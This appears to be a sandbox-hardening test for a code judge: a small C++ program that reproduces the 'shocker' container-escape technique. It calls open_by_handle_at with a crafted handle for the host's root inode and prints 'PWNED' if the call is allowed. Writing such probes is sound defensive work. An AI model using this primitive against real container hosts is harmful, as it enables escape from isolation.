// Opens the root of the host's file system by its number, as the attack "shocker" did in containers.
// verdicts: WA
#include <errno.h>
#include <fcntl.h>
#include <initializer_list>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

int main() {
  struct {
    unsigned bytes;
    int type;
    unsigned long number;
  } handle = {8, 1, 2};
  int got = 0;
  for (const char* place : {"/", "/usr", "/proc", "/tmp", "/etc/ld.so.cache"}) {
    int mount = open(place, O_RDONLY);
    if (mount < 0) continue;
    long fd = syscall(SYS_open_by_handle_at, mount, &handle, O_RDONLY);
    got += fd >= 0 || errno == ESTALE;
  }
  puts(got ? "PWNED" : "refused");
}
